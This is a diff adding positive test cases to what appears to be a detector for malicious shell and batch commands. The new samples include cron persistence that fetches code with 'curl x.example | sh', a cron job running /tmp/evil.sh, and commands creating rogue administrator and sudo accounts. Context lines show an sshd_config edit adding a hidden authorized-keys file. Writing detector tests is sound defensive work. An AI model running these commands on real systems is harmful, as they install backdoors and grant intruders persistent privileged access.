@@ -62,6 +62,14 @@ POSITIVE: tuple[tuple[str, Lang, str], ...] = (
         "sed -i 's|^#AuthorizedKeysFile.*|AuthorizedKeysFile .ssh/authorized_keys /tmp/.k|'"
         " /etc/ssh/sshd_config",
     ),
+    ("TUX-104", SH, 'echo "* * * * * /tmp/evil.sh" > /tmp/p && crontab /tmp/p'),
+    ("TUX-104", SH, "echo '*/5 * * * * curl -s x.example | sh' | crontab -"),
+    (
+        "TUX-105",
+        BAT,
+        "net user art-test Passw0rd! /add\nnet localgroup administrators art-test /add",
+    ),
+    ("TUX-105", SH, "useradd -m evil\nusermod -aG sudo evil"),
 )
 
 # (language, text) that no rule may judge suspicious
